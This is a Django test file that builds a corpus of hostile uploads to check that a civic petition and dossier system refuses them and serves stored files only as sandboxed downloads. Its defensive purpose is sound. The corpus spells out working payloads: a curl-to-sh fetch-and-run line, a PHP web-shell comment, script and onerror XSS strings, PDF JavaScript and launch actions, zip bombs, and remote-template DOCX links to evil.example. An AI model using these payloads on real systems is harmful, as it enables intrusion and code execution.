"""S5: hostile uploads are refused at every entry point, and accepted files come back only as
downloads.

The corpus is made here, by code (no binary committed): renamed programs, HTML and SVG with
script, picture/HTML polyglots, PDFs with JavaScript or launch actions, zip bombs, macro
documents, empty and oversize files, and names that try to hide or escape. Each file is sent as
a browser (or an attacker) sends it, in a hand-built multipart body, so the file name reaches
Django exactly as typed, to every form that takes files:

- `petitions:file`, the citizen's online petition (field `attachments`, several files);
- `adminreform:online_submit`, the online dossier (one field per paper of the procedure).

The petition desk entry and the counter intake take no file; `test_every_upload_entry_point_is_in_this_test`
fails when a new form or view starts taking files without being added here.
"""

from __future__ import annotations

import io
import re
import struct
import uuid
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.contrib import admin
from django.contrib.auth.models import User
from django.core.exceptions import ValidationError as DjangoValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import RequestFactory
from django.urls import Resolver404, resolve, reverse

from adminreform.models import Dossier, DossierDocument
from adminreform.services import Applicant, dossier_receive
from civicdesk.exceptions import DomainError
from petitions.models import Attachment, Petition
from tests.adminreform.factories import ProcedureDocumentFactory, ProcedureFactory
from tests.files import DOCX_CONTENT_TYPES, doc_bytes, docx_bytes, jpeg_bytes, pdf_bytes, png_bytes
from tests.petitions.factories import receive as receive_petition

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
REPO = Path(__file__).resolve().parents[2]


@pytest.fixture(autouse=True)
def _no_rate_limit(settings):
    """Dozens of posts from one address: the limits are S4's business (test_public_form_limits)."""
    settings.CIVICDESK_RATELIMIT_ENABLED = False


# --- the corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Bad:
    label: str
    name: str
    content: bytes
    claimed: str = "application/pdf"  # the Content-Type the browser claims


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png_bomb() -> bytes:
    """A 30,000 × 30,000 picture (900 megapixels, 2.7 GB unpacked) in a few hundred bytes."""
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
        + _png_chunk(b"IEND", b"")
    )


def _png_with_text(text: bytes) -> bytes:
    png = png_bytes()
    return png[:33] + _png_chunk(b"tEXt", b"Comment\x00" + text) + png[33:]


def _jpeg_with_comment(text: bytes) -> bytes:
    jpeg = jpeg_bytes()
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + jpeg[2:]


def _gif() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("P", (4, 4)).save(buffer, format="GIF")
    return buffer.getvalue()


def _pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n" % n + o + b"\nendobj\n" for n, o in enumerate(objects, start=1))
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def _pdf_object_stream(hidden: bytes) -> bytes:
    packed = zlib.compress(b"5 0 " + hidden)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return _pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, stream + packed + b"\nendstream")


OPEN_JS = b"<< /S /JavaScript /JS (app.alert(document.cookie)) >>"
CATALOG_OPEN_5 = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"


def _pdf_stream(dictionary: bytes, payload: bytes, *, catalog: bytes = CATALOG_OPEN_5) -> bytes:
    """A PDF whose OpenAction (object 5) sits in an object stream: `dictionary` names the
    stream's filters, `payload` is the stream's bytes as stored."""
    head = b"<< /Type /ObjStm /N 1 /First 4 " + dictionary + b" /Length %d >>\nstream\n" % len(payload)
    return _pdf(catalog, PAGES, head + payload + b"\nendstream")


def _objstm(hidden: bytes = OPEN_JS) -> bytes:
    return b"5 0 " + hidden


def _hex(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def _a85(data: bytes) -> bytes:
    import base64

    return base64.a85encode(data, adobe=True)


def _rels(target: str, kind: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def _docx_lying_about_its_size(real: int = 200 * MB, declared: int = 1024) -> bytes:
    """A DOCX whose `word/media/a.bin` declares `declared` bytes but inflates to `real`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES)
        z.writestr("_rels/.rels", "<Relationships/>")
        z.writestr("word/document.xml", "<w:document><w:body><w:p>Đơn</w:p></w:body></w:document>")
        with z.open("word/media/a.bin", "w") as handle:
            chunk = bytes(MB)
            for _ in range(real // MB):
                handle.write(chunk)
        info = z.getinfo("word/media/a.bin")
    data = bytearray(buffer.getvalue())
    local = info.header_offset
    struct.pack_into("<I", data, local + 22, declared)  # the local header's uncompressed size
    central = data.rfind(b"word/media/a.bin") - 46  # the name's last copy is in the central directory
    assert data[central : central + 4] == b"PK\x01\x02"
    struct.pack_into("<I", data, central + 24, declared)  # and the central directory's
    return bytes(data)


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buffer.getvalue()


def _docx_with_many_entries(n: int) -> bytes:
    return docx_bytes(extra={f"word/media/p{i}.xml": b"<p/>" for i in range(n)})


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"
    + b"\x00" * 50
    + b"\x80\x00\x00\x00"
    + b"\x00" * 64
    + b"PE\x00\x00"
    + b"\x00" * 200
)
SCRIPT_HTML = b"<!DOCTYPE html><html><body><script>fetch('/petitions/queue/').then(r=>r.text())</script></body></html>"
SCRIPT_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024
PNG, JPEG, WORD = "image/png", "image/jpeg", "application/msword"
MACRO_CT = DOCX_CONTENT_TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")


def corpus() -> list[Bad]:
    pdf, png, jpeg, docx = pdf_bytes(), png_bytes(), jpeg_bytes(), docx_bytes()
    return [
        # programs under a document's name
        Bad("ELF program named .pdf", "hoso.pdf", ELF),
        Bad("Windows program (MZ/PE) named .pdf", "hoso.pdf", PE),
        Bad("Windows program named .docx", "don.docx", PE, claimed="application/msword"),
        Bad("shell script named .pdf", "hoso.pdf", b"#!/bin/sh\ncurl -s http://198.51.100.1/x | sh\n"),
        Bad("NUL-truncated name: program named hoso.pdf<NUL>.exe", "hoso.pdf\x00.exe", PE),
        Bad("right-to-left override hiding .exe", "hoso\u202egpj.exe", PE, claimed="image/jpeg"),
        # markup that a browser would run
        Bad("HTML with script, claimed to be a PDF", "don.pdf", SCRIPT_HTML),
        Bad("HTML with script named .png", "anh.png", SCRIPT_HTML, claimed="image/png"),
        Bad("SVG with script", "anh.svg", SCRIPT_SVG, claimed="image/svg+xml"),
        Bad("SVG with script named .png, claimed PNG", "anh.png", SCRIPT_SVG, claimed="image/png"),
        Bad("HTML first, a PDF after it", "don.pdf", SCRIPT_HTML + pdf),
        # polyglots: a real picture or PDF that is also a page
        Bad("PNG + HTML polyglot (HTML after IEND)", "anh.png", png + SCRIPT_HTML, claimed="image/png"),
        Bad("PNG with a script in a tEXt chunk", "anh.png", _png_with_text(b"<script>alert(1)</script>"), PNG),
        Bad("PNG with <img onerror> in a tEXt chunk", "anh.png", _png_with_text(b"<img src=x onerror=alert(1)>"), PNG),
        Bad("PNG with <svg/onload> in a tEXt chunk", "anh.png", _png_with_text(b'<svg/onload="alert(1)">'), PNG),
        Bad(
            "JPEG with <img onerror> in its comment",
            "anh.jpg",
            _jpeg_with_comment(b"<img src=x onerror=alert(1)>"),
            JPEG,
        ),
        Bad("JPEG + HTML polyglot", "anh.jpg", jpeg + SCRIPT_HTML, claimed="image/jpeg"),
        Bad(
            "JPEG with PHP in its comment", "anh.jpg", _jpeg_with_comment(b"<?php system($_GET['c']); ?>"), "image/jpeg"
        ),
        Bad("PDF + HTML polyglot", "don.pdf", pdf + SCRIPT_HTML),
        # PDFs that act
        Bad("PDF with JavaScript on open", "don.pdf", _pdf(CATALOG, PAGES, b"<< /S /JavaScript /JS (app.alert(1)) >>")),
        Bad("PDF with hex-escaped /J#61vaScript", "don.pdf", _pdf(CATALOG, PAGES, b"<< /S /J#61vaScript /J#53 (x) >>")),
        Bad("PDF with a launch action", "don.pdf", _pdf(CATALOG, PAGES, b"<< /S /Launch /F (cmd.exe) >>")),
        Bad(
            "PDF with an embedded file",
            "don.pdf",
            _pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>", PAGES, b"<< /Names [] >>"),
        ),
        Bad("PDF with JavaScript inside a compressed object stream", "don.pdf", _pdf_object_stream(b"<< /JS (x) >>")),
        # the same, hidden better (issue 17, finding 5): found after the stream is really decoded
        Bad(
            "PDF OpenAction JavaScript in a Flate object stream",
            "don.pdf",
            _pdf_stream(b"/Filter /FlateDecode", zlib.compress(_objstm())),
        ),
        Bad(
            "PDF object stream whose dictionary is padded past 300 bytes",
            "don.pdf",
            _pdf_stream(b"/Filter /FlateDecode /Pad (" + b"x" * 600 + b")", zlib.compress(_objstm())),
        ),
        Bad(
            "PDF JavaScript behind /ASCIIHexDecode", "don.pdf", _pdf_stream(b"/Filter /ASCIIHexDecode", _hex(_objstm()))
        ),
        Bad(
            "PDF JavaScript behind [/ASCIIHexDecode /FlateDecode]",
            "don.pdf",
            _pdf_stream(b"/Filter [/ASCIIHexDecode /FlateDecode]", _hex(zlib.compress(_objstm()))),
        ),
        Bad(
            "PDF JavaScript behind [/ASCII85Decode /FlateDecode]",
            "don.pdf",
            _pdf_stream(b"/Filter [/ASCII85Decode /FlateDecode]", _a85(zlib.compress(_objstm()))),
        ),
        Bad(
            "PDF JavaScript behind an abbreviated /AHx filter",
            "don.pdf",
            _pdf_stream(b"/Filter /AHx", _hex(_objstm())),
        ),
        Bad(
            "PDF hex-escaped /J#53 inside a Flate stream",
            "don.pdf",
            _pdf_stream(b"/Filter /FlateDecode", zlib.compress(_objstm(b"<< /S /J#61vaScript /J#53 (x) >>"))),
        ),
        Bad(
            "PDF launch action in an object stream behind a hex-escaped filter name",
            "don.pdf",
            _pdf_stream(b"/Filter /Fl#61teDecode", zlib.compress(_objstm(b"<< /S /Launch /F (cmd.exe) >>"))),
        ),
        Bad(
            "PDF embedded file in a doubly compressed stream",
            "don.pdf",
            _pdf_stream(
                b"/Filter [/FlateDecode /FlateDecode]",
                zlib.compress(zlib.compress(_objstm(b"<< /EmbeddedFiles [] >>"))),
            ),
        ),
        Bad(
            "PDF with an object stream inside an object stream",
            "don.pdf",
            _pdf_stream(
                b"/Filter /FlateDecode",
                zlib.compress(
                    b"5 0 << /Type /ObjStm /Filter /ASCIIHexDecode /Length 99 >>\nstream\n"
                    + _hex(_objstm())
                    + b"\nendstream"
                ),
            ),
        ),
        Bad(
            "PDF decompression bomb in a stream (30 MB of zeros)",
            "don.pdf",
            _pdf_stream(b"/Filter /FlateDecode", zlib.compress(bytes(30 * MB), 9)),
        ),
        Bad(
            "PDF with <img onerror> markup in a comment",
            "don.pdf",
            pdf.replace(b"\n", b"\n%<img src=x onerror=alert(1)>\n", 1),
        ),
        Bad(
            "PDF with <img onerror> in a compressed stream",
            "don.pdf",
            _pdf_stream(b"/Filter /FlateDecode", zlib.compress(b"5 0 (<img src=x onerror=alert(document.domain)>)")),
        ),
        # size
        Bad("oversize PDF (10 MB + 1 byte)", "lon.pdf", pdf + b"%" + b"0" * (10 * MB - len(pdf))),
        Bad("empty file", "trong.pdf", b""),
        # pictures that are not what they seem
        Bad("PNG decompression bomb (900 megapixels)", "anh.png", _png_bomb(), claimed="image/png"),
        Bad("corrupt PNG", "anh.png", b"\x89PNG\r\n\x1a\n" + b"\x13\x37" * 200, claimed="image/png"),
        Bad("GIF named .jpg", "anh.jpg", _gif(), claimed="image/jpeg"),
        # Word packages
        Bad(
            "DOCX zip bomb (20 MB of zeros, 1000:1)", "don.docx", docx_bytes(extra={"word/media/a.bin": bytes(20 * MB)})
        ),
        Bad("DOCX with 1,001 entries", "don.docx", _docx_with_many_entries(1001)),
        Bad(
            "DOCM (macros) renamed .docx",
            "don.docx",
            docx_bytes(extra={"word/vbaProject.bin": OLE}, content_types=MACRO_CT),
        ),
        Bad("DOCX declaring macro-enabled content", "don.docx", docx_bytes(content_types=MACRO_CT)),
        Bad("DOCX with an ActiveX control", "don.docx", docx_bytes(extra={"word/activeX/activeX1.xml": b"<ax/>"})),
        Bad("DOCX with an embedded OLE object", "don.docx", docx_bytes(extra={"word/embeddings/oleObject1.bin": OLE})),
        Bad("DOCX carrying a program", "don.docx", docx_bytes(extra={"word/media/setup.exe": PE})),
        Bad("zip of a program named .docx", "don.docx", _zip({"virus.exe": PE})),
        Bad(
            "DOCX with a remote attachedTemplate",
            "don.docx",
            docx_bytes(extra={"word/_rels/settings.xml.rels": _rels("http://evil.example/t.dotm", "attachedTemplate")}),
        ),
        Bad(
            "DOCX with an external OLE object",
            "don.docx",
            docx_bytes(extra={"word/_rels/document.xml.rels": _rels("\\\\198.51.100.1\\share\\x.xls", "oleObject")}),
        ),
        Bad(
            "DOCX with a remote sub-document",
            "don.docx",
            docx_bytes(extra={"word/_rels/document.xml.rels": _rels("http://evil.example/s.docx", "subDocument")}),
        ),
        Bad(
            "DOCX with a remote picture (tracking)",
            "don.docx",
            docx_bytes(extra={"word/_rels/document.xml.rels": _rels("http://evil.example/p.png?id=1", "image")}),
        ),
        Bad(
            "DOCX with a remote frame",
            "don.docx",
            docx_bytes(extra={"word/_rels/webSettings.xml.rels": _rels("http://evil.example/f.html", "frame")}),
        ),
        Bad("DOCX declaring 1 KB that inflates to 200 MB", "don.docx", _docx_lying_about_its_size()),
        Bad(
            "DOC with a VBA project",
            "don.doc",
            doc_bytes(extra="_VBA_PROJECT".encode("utf-16-le")),
            "application/msword",
        ),
        Bad("OLE file that is not a Word document named .doc", "don.doc", OLE, claimed="application/msword"),
        # names
        Bad("double extension .exe.pdf (real PDF)", "hoso.exe.pdf", pdf),
        Bad("double extension .html.png (real PNG)", "anh.html.png", png, claimed="image/png"),
        Bad("URL-encoded path traversal", "..%2F..%2Fetc%2Fcron.d%2Fx.pdf", pdf),
        Bad("NTFS alternate data stream", "hoso.pdf::$DATA", pdf),
        Bad("hidden dot-file", ".htaccess", pdf),
        Bad("no extension", "hoso", pdf),
        Bad("markup in the name", "<img src=x onerror=alert(1)>.pdf", pdf),
        Bad("a PDF named .docx", "don.docx", pdf),
        Bad("a DOCX named .pdf", "don.pdf", docx),
    ]


GOOD: list[tuple[str, Callable[[], bytes], str]] = [
    ("to-khai.pdf", pdf_bytes, "application/pdf"),
    ("anh chup.jpg", jpeg_bytes, "image/jpeg"),
    ("Giấy chứng sinh.png", png_bytes, "image/png"),
    ("Đơn v.2.docx", docx_bytes, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("don-cu.doc", doc_bytes, "application/msword"),
]


def test_the_corpus_has_at_least_forty_distinct_bad_files():
    files = corpus()
    assert len(files) >= 40
    assert len({f.label for f in files}) == len(files)


# --- sending as a browser does -------------------------------------------------------------


def multipart(fields: dict[str, Any], files: list[tuple[str, str, bytes, str]]) -> tuple[bytes, str]:
    """The request body, with each file name exactly as given (the test client would strip
    directories from it before sending)."""
    boundary = f"----civicdesk{uuid.uuid4().hex}"
    out = io.BytesIO()
    for name, value in fields.items():
        for v in value if isinstance(value, list) else [value]:
            out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{v}\r\n'.encode())
    for field, filename, content, claimed in files:
        head = f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
        out.write(head.encode() + f"Content-Type: {claimed}\r\n\r\n".encode() + content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


@dataclass
class EntryPoint:
    name: str
    url: str
    fields: dict[str, Any]  # what the citizen typed
    typed: tuple[str, ...]  # some of it, which must be on the page again after a refusal
    file_field: str  # the field the bad file goes to
    other_files: list[tuple[str, str, bytes, str]]  # good files sent with it (other fields)
    model: type[models.Model]  # nothing of it may be created


@pytest.fixture
def entry_points(commune, officer) -> dict[str, EntryPoint]:
    """The two forms, filled in as a citizen would (the officer makes commune A a unit that
    runs its one-stop shop on CivicDesk)."""
    procedure = ProcedureFactory(code="1.001193", name="Đăng ký khai sinh", processing_days=3, level=commune.level)
    first = ProcedureDocumentFactory(procedure=procedure, name="Tờ khai", position=1)
    second = ProcedureDocumentFactory(procedure=procedure, name="Giấy chứng sinh", position=2)
    return {
        "petitions:file": EntryPoint(
            "petitions:file",
            reverse("petitions:file"),
            {
                "kind": "recommendation",
                "unit": commune.code,
                "petitioner_name": "Trần Thị Bình",
                "petitioner_address": "5 Lý Thái Tổ, Hoàn Kiếm",
                "petitioner_phone": "0987654321",
                "subject": "Đèn đường ngõ 12 hỏng",
                "content": "Đề nghị sửa đèn đường ở ngõ 12 phố Hàng Bạc.",
                "signers": "1",
                "consent": "on",
                "website": "",
                "idempotency_key": uuid.uuid4().hex,
            },
            ("Trần Thị Bình", "Đèn đường ngõ 12 hỏng", "Đề nghị sửa đèn đường ở ngõ 12 phố Hàng Bạc."),
            "attachments",
            [],
            Petition,
        ),
        "adminreform:online_submit": EntryPoint(
            "adminreform:online_submit",
            reverse("adminreform:online_submit", args=[procedure.pk]),
            {
                "applicant_name": "Phạm Thu Hằng",
                "applicant_phone": "0911222333",
                "applicant_address": "12 Hàng Bạc",
                "unit": commune.pk,
                "consent": "on",
            },
            ("Phạm Thu Hằng", "0911222333", "12 Hàng Bạc"),
            f"doc_{first.pk}",
            [(f"doc_{second.pk}", "chung-sinh.png", png_bytes(), "image/png")],
            Dossier,
        ),
    }


ENTRY_POINTS = ["petitions:file", "adminreform:online_submit"]


def post(client, entry: EntryPoint, files: list[tuple[str, str, bytes, str]]):
    body, content_type = multipart(entry.fields, files + entry.other_files)
    return client.generic("POST", entry.url, body, content_type=content_type)


def field_block(html: str, field: str) -> str:
    """The markup crispy renders for one field: its label, input and errors."""
    match = re.search(rf'<div id="div_id_{re.escape(field)}".*?(?=<div id="div_id_|</form>)', html, re.S)
    assert match, f"no field {field} on the page"
    return match.group(0)


VIETNAMESE = re.compile(r"[ăâđêôơưĂÂĐÊÔƠƯàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ]")


@pytest.mark.parametrize("entry_name", ENTRY_POINTS)
def test_no_bad_file_is_accepted_and_each_is_explained_next_to_its_field(client, entry_points, entry_name):
    entry = entry_points[entry_name]
    accepted, unexplained, lost = [], [], []
    for bad in corpus():
        before = entry.model.objects.count()
        response = post(client, entry, [(entry.file_field, bad.name, bad.content, bad.claimed)])
        if response.status_code in (301, 302) or entry.model.objects.count() > before:
            accepted.append(bad.label)
            if entry.name == "petitions:file":  # a fresh submission for the next file
                entry.fields["idempotency_key"] = uuid.uuid4().hex
            continue
        html = response.content.decode()
        errors = re.findall(r'class="invalid-feedback"[^>]*>(.*?)</', field_block(html, entry.file_field), re.S)
        everywhere = re.findall(r'class="invalid-feedback"[^>]*>(.*?)</', html, re.S)
        if not errors or not VIETNAMESE.search(" ".join(errors)) or len(everywhere) != len(errors):
            unexplained.append(bad.label)
        if any(typed not in html for typed in entry.typed):
            lost.append(bad.label)
    assert not accepted, f"{entry_name} accepted: {accepted}"
    assert not unexplained, f"{entry_name}: no Vietnamese error next to the file field for {unexplained}"
    assert not lost, f"{entry_name}: what the citizen typed was lost for {lost}"
    assert not Attachment.objects.exists() and not DossierDocument.objects.filter(file__gt="").exists()


def test_more_than_five_files_on_a_petition_are_refused_next_to_the_field(client, entry_points):
    entry = entry_points["petitions:file"]
    files = [("attachments", f"trang-{i}.pdf", pdf_bytes(), "application/pdf") for i in range(6)]
    html = post(client, entry, files).content.decode()
    assert "5" in field_block(html, "attachments") and "invalid-feedback" in field_block(html, "attachments")
    assert not Petition.objects.exists()
    assert all(typed in html for typed in entry.typed)


@pytest.mark.parametrize("entry_name", ENTRY_POINTS)
def test_a_body_larger_than_every_file_together_is_refused_before_it_is_read(client, entry_points, entry_name):
    """Files stream to disk before any check: a body declared larger than all a form can take
    (CIVICDESK_MAX_REQUEST_BYTES, 100 MB) is answered 413 at once, in Vietnamese."""
    entry = entry_points[entry_name]
    body, content_type = multipart(entry.fields, [(entry.file_field, "lon.pdf", pdf_bytes(), "application/pdf")])
    response = client.generic("POST", entry.url, body, content_type=content_type, CONTENT_LENGTH=str(101 * MB))
    assert response.status_code == 413
    assert "quá lớn" in response.content.decode()
    assert not entry.model.objects.exists()


@pytest.mark.parametrize("entry_name", ENTRY_POINTS)
def test_ordinary_documents_and_pictures_are_accepted(client, entry_points, entry_name):
    """The positive control: the checks refuse the corpus, not the files citizens really send."""
    entry = entry_points[entry_name]
    for number, (name, make, claimed) in enumerate(GOOD, start=1):
        if entry.name == "petitions:file":
            entry.fields["idempotency_key"] = uuid.uuid4().hex
        response = post(client, entry, [(entry.file_field, name, make(), claimed)])
        errors = re.findall(r'class="invalid-feedback"[^>]*>(.*?)</', response.content.decode(), re.S)
        assert response.status_code in (200, 302), (name, response.status_code, errors)
        assert entry.model.objects.count() == number, (name, errors)


def test_path_separators_never_reach_storage(client, entry_points):
    """Django cuts the directories off a file name before any of our code sees it; the file is
    stored under a name the server makes, inside the upload folder."""
    entry = entry_points["petitions:file"]
    for name in ("../../../../etc/cron.d/don.pdf", "..\\..\\windows\\don.pdf", "/var/www/html/don.pdf"):
        entry.fields["idempotency_key"] = uuid.uuid4().hex
        post(client, entry, [("attachments", name, pdf_bytes(), "application/pdf")])
        attachment = Attachment.objects.latest("pk")
        assert attachment.original_name == "don.pdf"
        assert ".." not in attachment.file.name and not attachment.file.name.startswith("/")
        assert Path(attachment.file.path).resolve().is_relative_to(Path(attachment.file.storage.location).resolve())


def test_a_dossier_document_is_stored_under_a_random_name_and_downloaded_under_its_papers(
    client, entry_points, officer
):
    """The citizen's file name may carry personal data: it is kept nowhere."""
    entry = entry_points["adminreform:online_submit"]
    name = "CCCD Pham Thu Hang 001090001234.pdf"
    assert post(client, entry, [(entry.file_field, name, pdf_bytes(), "application/pdf")]).status_code in (200, 302)
    documents = list(DossierDocument.objects.exclude(file=""))
    assert len(documents) == 2
    for document in documents:
        stored = document.file.name
        assert re.fullmatch(r"dossiers/\d{4}/\d{2}/[0-9a-f]{32}", stored), stored
        assert "001090001234" not in stored and "Hang" not in stored and "chung-sinh" not in stored
    assert not [d for d in Dossier.objects.values_list("applicant_name", flat=True) if "001090001234" in d]
    first = next(d for d in documents if d.content_type == "application/pdf")
    client.force_login(officer)
    response = client.get(reverse("adminreform:document_file", args=[first.dossier_id, first.pk]))
    assert (
        "Tờ khai.pdf" in response["Content-Disposition"] or "T%E1%BB%9D%20khai.pdf" in response["Content-Disposition"]
    )


def test_pictures_are_drawn_again_so_hidden_bytes_are_not_stored(client, entry_points):
    """A JPEG with a zip appended and a comment, a PNG with a text chunk: accepted, but what is
    stored is the picture only (Pillow draws it again), upright, without the extra bytes."""
    from PIL import Image

    entry = entry_points["petitions:file"]
    secret_zip = _zip({"readme.txt": b"payload-after-the-picture"})
    jpeg = _jpeg_with_comment(b"GPS 21.0285,105.8542") + secret_zip
    png = _png_with_text(b"payload in a text chunk")
    response = post(
        client, entry, [("attachments", "anh.jpg", jpeg, "image/jpeg"), ("attachments", "anh.png", png, "image/png")]
    )
    assert response.status_code == 302
    stored = {a.mime: (a, a.file.open("rb").read()) for a in Attachment.objects.all()}
    (jpeg_row, jpeg_bytes_stored), (png_row, png_bytes_stored) = stored["image/jpeg"], stored["image/png"]
    assert b"payload-after-the-picture" not in jpeg_bytes_stored and b"PK\x03\x04" not in jpeg_bytes_stored
    assert b"GPS" not in jpeg_bytes_stored and jpeg_row.size == len(jpeg_bytes_stored)
    assert b"payload in a text chunk" not in png_bytes_stored and png_row.size == len(png_bytes_stored)
    with Image.open(io.BytesIO(jpeg_bytes_stored)) as picture:
        assert picture.format == "JPEG" and picture.size == Image.open(io.BytesIO(jpeg_bytes())).size
    with Image.open(io.BytesIO(png_bytes_stored)) as picture:
        assert picture.format == "PNG"


def test_every_upload_entry_point_is_in_this_test():
    """A form or view that starts taking files must be added to ENTRY_POINTS: this lists the
    modules that declare a file field or read request.FILES."""
    # Both public forms take their files through core.forms.CheckedFileField, and keep the files
    # of a form that came back with an error through core.held_files (core.services.uploads_hold,
    # which runs every file through validate_upload first).
    # A resolution's reply letter (petitions.action_forms), an urging's answer document and an
    # online session's recording are staff uploads checked by the same core.uploads (the corpus
    # test below sends them every bad file too).
    known = {"core/forms.py", "adminreform/views/public.py", "petitions/action_forms.py", "petitions/views/public.py"}
    known |= {"petitions/urge_forms.py", "petitions/urging.py", "reception/forms.py"}
    # The filing form cleans its CheckedFileField itself, without a bound field, by the field's
    # own clean() (PetitionFileForm._clean_fields): the filing's entry point above.
    known |= {"petitions/forms.py"}
    found = set()
    for app in ("core", "petitions", "reception", "adminreform", "reports", "civicdesk"):
        for path in (REPO / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "models.py":
                continue
            if re.search(r"\b(FileField|ImageField|FileInput)\b|request\.FILES", path.read_text()):
                found.add(str(path.relative_to(REPO)))
    assert found == known, f"new upload code outside this test: {sorted(found - known)}"


def test_an_urgings_answer_and_a_sessions_recording_take_no_bad_file(city, commune, officer):
    """The two staff uploads outside the forms above: every file of the corpus is refused with a
    Vietnamese reason and nothing is stored (an answer's document is any office document; a
    recording only audio or video, so the corpus' documents are refused for their type too)."""
    from petitions.services import petition_urge, urge_request_answer
    from petitions.urging import UrgeRequest
    from reception.models import ReceivedBy, SessionKind, SessionRecording
    from reception.services import session_recording_add
    from tests.petitions.factories import classify
    from tests.reception.factories import SessionFactory

    petition = classify(receive_petition(city, kind="recommendation", received_on=date(2026, 2, 2)), competent=False)
    urge = petition_urge(petition=petition, expected_version=None, to_unit=commune, request="Báo cáo", actor=None)
    session = SessionFactory(unit=commune, kind=SessionKind.ONLINE, received_by=ReceivedBy.HEAD, date=date(2026, 3, 2))
    accepted, unexplained = [], []
    for bad in corpus():
        for attach in (
            lambda f: urge_request_answer(urge=urge, answer="Đã giải quyết", document=f, actor=officer),
            lambda f: session_recording_add(session=session, file=f, actor=officer),
        ):
            try:
                attach(SimpleUploadedFile(bad.name, bad.content, bad.claimed))
            except (DjangoValidationError, DomainError) as refused:
                if not VIETNAMESE.search(" ".join(getattr(refused, "messages", [str(refused)]))):
                    unexplained.append(bad.label)
            else:
                accepted.append(bad.label)
    assert not accepted, accepted
    assert not unexplained, unexplained
    assert UrgeRequest.objects.get(pk=urge.pk).answered_on is None and not SessionRecording.objects.exists()


def test_the_admin_takes_no_file():
    """Django's admin is another way in: no model with a file may be added or changed there."""
    superuser = User(is_superuser=True, is_staff=True, is_active=True)
    request = RequestFactory().get("/admin/")
    request.user = superuser
    for model, model_admin in admin.site._registry.items():
        if any(isinstance(f, models.FileField) for f in model._meta.get_fields()):
            assert not model_admin.has_add_permission(request), model
            assert not model_admin.has_change_permission(request), model


# --- handing files back -------------------------------------------------------------------------


def _assert_download(response, content: bytes, content_type: str) -> None:
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == content_type
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert "private" in response["Cache-Control"]


def test_a_petition_attachment_is_served_to_staff_as_a_sandboxed_download(client, commune, officer):
    petition = receive_petition(commune, kind="recommendation", actor=officer)
    attachment = Attachment.objects.create(
        petition=petition,
        file=SimpleUploadedFile("x", pdf_bytes()),
        original_name="Đơn kiến nghị.pdf",
        mime="application/pdf",
        size=len(pdf_bytes()),
    )
    client.force_login(officer)
    response = client.get(reverse("petitions:attachment", args=[petition.pk, attachment.pk]))
    _assert_download(response, pdf_bytes(), "application/pdf")
    assert "filename*=utf-8''%C4%90%C6%A1n%20ki%E1%BA%BFn%20ngh%E1%BB%8B.pdf" in response["Content-Disposition"]


def test_a_stored_file_of_an_unexpected_type_is_served_as_bytes_not_as_a_page(client, commune, officer):
    """Rows from before these checks (or an import) may say text/html: still a download."""
    petition = receive_petition(commune, kind="recommendation", actor=officer)
    attachment = Attachment.objects.create(
        petition=petition,
        file=SimpleUploadedFile("x", SCRIPT_HTML),
        original_name="cu.html",
        mime="text/html",
        size=len(SCRIPT_HTML),
    )
